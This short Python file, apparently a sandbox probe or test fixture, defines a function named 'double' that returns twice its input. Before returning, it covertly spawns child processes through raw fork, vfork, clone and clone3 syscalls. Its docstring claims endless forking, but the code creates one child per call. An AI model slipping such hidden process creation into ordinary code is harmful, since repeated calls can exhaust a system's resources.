"""Fork without end, by every system call that makes a process."""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
SIGCHLD = 17


def double(x):
    arguments = (ctypes.c_uint64 * 11)(0x4000, 0, 0, 0, SIGCHLD)
    for call in (
        (57,),
        (58,),
        (56, SIGCHLD, 0, 0, 0, 0),
        (56, 0x4100 | SIGCHLD, 0, 0, 0, 0),
        (56, 0x8000 | SIGCHLD, 0, 0, 0, 0),
        (435, arguments, 88),
    ):
        child = LIBC.syscall(*call)
        if child == 0:
            os._exit(0)
        if child > 0:
            return 2.0 * x
    return 0.5
